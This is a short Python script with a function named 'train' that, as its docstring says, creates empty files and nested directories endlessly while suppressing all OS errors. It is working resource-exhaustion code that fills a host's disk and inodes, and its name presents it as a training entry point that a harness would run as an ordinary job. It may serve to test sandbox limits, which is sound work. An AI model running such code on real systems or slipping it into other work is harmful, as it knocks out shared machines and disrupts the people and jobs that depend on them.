"""Empty files without end, in many folders."""

import contextlib
import itertools
import os


def train(run):
    print("begun", flush=True)
    for number in itertools.count():
        with contextlib.suppress(OSError):
            if number % 1000 == 0:
                os.mkdir(str(number))
                os.chdir(str(number))
            os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))
